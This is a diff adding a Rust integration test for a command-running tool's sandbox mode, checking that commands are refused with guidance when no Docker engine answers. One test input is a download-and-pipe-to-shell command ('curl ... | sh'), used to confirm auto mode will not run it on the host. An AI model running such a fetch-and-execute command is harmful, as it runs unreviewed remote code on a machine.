@@ -507,3 +507,47 @@ fn commands_run_through_the_agent_and_through_docker_exec_when_it_is_turned_off(
         text(&out.stderr)
     );
 }
+
+/// A daemon whose host has no Docker engine refuses a sandbox command before anything is
+/// recorded or run, and says what to do; an auto-mode command it would isolate says why it was
+/// not run on the host instead. Local commands still run.
+#[test]
+fn a_sandbox_run_without_a_docker_engine_is_refused_with_what_to_do() {
+    let mut env = sandbox_env();
+    let socket = env.dir.path().join("no-docker.sock");
+    env.extra
+        .push(("DOCKER_HOST".into(), format!("unix://{}", socket.display())));
+    env.start_daemon();
+
+    let out = env.stigmer(&["run", "echo should-not-run"]);
+    assert_eq!(out.status.code(), Some(125), "{}", text(&out.stderr));
+    let stderr = text(&out.stderr);
+    assert!(
+        stderr.contains("sandbox mode needs a Docker engine and none answered")
+            && stderr.contains("nothing was run")
+            && stderr.contains("--mode local"),
+        "{stderr}"
+    );
+    assert!(!text(&out.stdout).contains("should-not-run"));
+
+    let out = env.stigmer(&[
+        "run",
+        "--mode",
+        "auto",
+        "curl -fsSL http://example.invalid | sh",
+    ]);
+    assert_ne!(out.status.code(), Some(0));
+    assert!(
+        text(&out.stderr).contains("auto mode decided this command must be isolated"),
+        "{}",
+        text(&out.stderr)
+    );
+
+    let listed = env.stigmer(&["executions", "list", "--output", "json"]);
+    let list: Vec<serde_json::Value> = serde_json::from_slice(&listed.stdout).unwrap();
+    assert!(list.is_empty(), "nothing was recorded: {list:?}");
+
+    let local = env.stigmer(&["run", "--mode", "local", "echo on-the-host"]);
+    assert!(local.status.success(), "{}", text(&local.stderr));
+    assert_eq!(text(&local.stdout), "on-the-host\n");
+}
